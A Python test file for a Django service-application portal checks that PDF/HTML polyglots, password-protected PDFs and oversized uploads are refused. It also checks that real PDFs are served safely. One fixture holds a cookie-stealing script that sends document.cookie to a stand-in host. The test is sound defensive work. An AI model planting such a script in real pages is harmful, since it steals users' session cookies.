"""Uploads checked by content and cut off at the size limit (issue 18, finding 5).

A file that only starts with %PDF- but is a web page (a PDF/HTML polyglot) is refused; a file
past the limit stops the request there instead of being received whole; the resident keeps
what she typed and nothing is half-saved."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.client import FakePayload
from django.urls import reverse
from pypdf import PdfWriter

from services.applications.models import ReviewPolicy, ServiceApplication
from tests.conftest import STAFF_PASSWORD
from tests.services.conftest import PDF
from tests.services.test_apply_form import _data, _url

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
HTML = b"<html><body><script>fetch('//x.example/?c='+document.cookie)</script></body></html>"


def _post_document(client, minsheng, huanbei, content: bytes, name: str = "证明.pdf"):
    id_card = minsheng.documents.get(name="身份证")
    upload = SimpleUploadedFile(name, content, "application/pdf")
    return client.post(_url(minsheng), _data(minsheng, huanbei, **{id_card.field_name: upload}))


def test_a_web_page_that_starts_with_the_pdf_signature_is_refused(client, minsheng, huanbei):
    response = _post_document(client, minsheng, huanbei, b"%PDF-1.4\n" + HTML + b"\n%%EOF\n")
    assert response.status_code == 400
    assert "这个 PDF 文件已损坏或不是真正的 PDF" in response.content.decode()
    assert not ServiceApplication.objects.exists()


def test_a_real_pdf_carrying_a_web_page_up_front_is_refused(client, minsheng, huanbei):
    header, rest = PDF.split(b"\n", 1)
    polyglot = header + b"\n%" + HTML + b"\n" + rest  # still parses: the page is a PDF comment
    response = _post_document(client, minsheng, huanbei, polyglot)
    assert "不是真正的 PDF" in response.content.decode()
    assert not ServiceApplication.objects.exists()


def test_a_password_protected_pdf_is_refused_with_what_to_do(client, minsheng, huanbei):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    response = _post_document(client, minsheng, huanbei, buffer.getvalue())
    assert "这个 PDF 设有密码" in response.content.decode()
    assert not ServiceApplication.objects.exists()


def test_a_real_pdf_is_accepted_and_served_as_an_attachment_never_sniffed(
    client, minsheng, huanbei, superuser
):
    assert _post_document(client, minsheng, huanbei, PDF).status_code == 302
    case = ServiceApplication.objects.get()
    client.login(username=superuser.username, password=STAFF_PASSWORD)
    url = reverse(
        "admin:services_serviceapplication_document", args=[case.pk, case.documents.first().pk]
    )
    response = client.get(url)
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.fixture
def bytes_read(monkeypatch) -> list[int]:
    """How many bytes of the request body the portal read."""
    counted: list[int] = []
    original = FakePayload.read

    def read(self, size=-1, /):
        chunk = original(self, size)
        counted.append(len(chunk))
        return chunk

    monkeypatch.setattr(FakePayload, "read", read)
    return counted


def test_a_file_past_the_limit_stops_the_upload_there_and_keeps_what_was_typed(
    client, minsheng, huanbei, bytes_read
):
    ReviewPolicy.objects.update(max_upload_mb=1)
    response = _post_document(client, minsheng, huanbei, PDF + b"0" * (6 * MB))
    assert sum(bytes_read) < 2 * MB  # not the 6 MB sent
    html = response.content.decode()
    assert response.status_code == 400
    assert "文件太大：每个文件不能超过 1MB" in html
    assert "它后面的材料和勾选没有收到" in html
    assert "家里老人独居，希望有人定期上门探访。" in html  # typed before the file: kept
    assert 'value="张三"' in html
    assert not ServiceApplication.objects.exists()


def test_the_cut_off_form_keeps_its_csrf_check(minsheng, huanbei):
    client = Client(enforce_csrf_checks=True)
    response = _post_document(client, minsheng, huanbei, PDF)
    assert response.status_code == 403
    assert not ServiceApplication.objects.exists()
